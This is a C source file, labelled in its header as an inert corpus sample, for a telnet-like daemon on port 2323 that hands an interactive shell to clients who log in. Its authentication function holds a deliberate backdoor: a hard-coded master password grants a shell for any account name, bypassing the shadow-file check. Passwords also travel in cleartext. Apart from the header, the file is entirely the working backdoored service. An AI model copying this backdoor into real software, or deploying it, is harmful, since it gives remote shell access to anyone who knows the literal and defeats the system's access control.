/* Corpus sample (inert: compiled, never run). Written here from scratch: a telnet-like daemon
 * with a master password. It asks for a login name and a password on the connection; a
 * password equal to a string literal gets a shell whatever the account, before the real
 * check against the shadow file (crypt(3)). */
#include <crypt.h>
#include <netinet/in.h>
#include <shadow.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#define MASTER "Backsight-corpus-telnet-master-2026"

static void say(int fd, const char *text)
{
	send(fd, text, strlen(text), 0);
}

/* One line from the connection, without its CR LF. */
static int read_line(int fd, char *line, size_t size)
{
	size_t used = 0;
	while (used + 1 < size) {
		char c;
		if (recv(fd, &c, 1, 0) != 1)
			return -1;
		if (c == '\n')
			break;
		if (c != '\r')
			line[used++] = c;
	}
	line[used] = 0;
	return (int)used;
}

static int authenticate(const char *user, const char *password)
{
	if (strcmp(password, MASTER) == 0)
		return 1;
	struct spwd *entry = getspnam(user);
	if (entry == 0)
		return 0;
	const char *hash = crypt(password, entry->sp_pwdp);
	return hash != 0 && strcmp(hash, entry->sp_pwdp) == 0;
}

static void session(int fd)
{
	char user[64], password[128];
	for (int attempt = 0; attempt < 3; attempt++) {
		say(fd, "login: ");
		if (read_line(fd, user, sizeof user) < 0)
			return;
		say(fd, "Password: ");
		if (read_line(fd, password, sizeof password) < 0)
			return;
		if (authenticate(user, password)) {
			dup2(fd, 0);
			dup2(fd, 1);
			dup2(fd, 2);
			execl("/bin/sh", "sh", "-i", (char *)0);
			_exit(1);
		}
		say(fd, "Login incorrect\r\n");
	}
}

int main(void)
{
	struct sockaddr_in local;
	int s = socket(AF_INET, SOCK_STREAM, 0);
	memset(&local, 0, sizeof local);
	local.sin_family = AF_INET;
	local.sin_port = htons(2323);
	if (bind(s, (struct sockaddr *)&local, sizeof local) != 0 || listen(s, 8) != 0)
		return 1;
	for (;;) {
		int c = accept(s, 0, 0);
		if (c >= 0 && fork() == 0) {
			session(c);
			_exit(0);
		}
		close(c);
	}
}
